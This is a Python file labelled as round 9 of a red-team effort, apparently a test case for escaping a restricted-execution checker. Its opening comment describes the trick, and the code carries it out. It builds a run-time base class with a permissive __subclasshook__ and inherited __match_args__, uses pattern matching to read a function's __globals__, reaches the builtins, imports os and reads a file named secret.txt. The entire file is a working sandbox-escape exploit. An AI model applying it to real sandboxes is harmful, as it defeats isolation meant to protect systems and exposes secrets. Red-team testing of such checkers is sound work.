# family: red team, round 9 (dataclass_no_match_args_runtime_base)
# _written_match_args accepts any class decorated with something named dataclass; with match_args=False the
# dataclass keeps the __match_args__ of its base, here a class made at run time (metaclass from __new__,
# see rt_014) naming any attribute.
import abc
import dataclasses


class Base(abc.ABC):
    def __new__(self):
        return type(self)


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    shape = Base()("P", (abc.ABC,), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})

    @dataclasses.dataclass(match_args=False)
    class Probe(shape):
        pass

    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
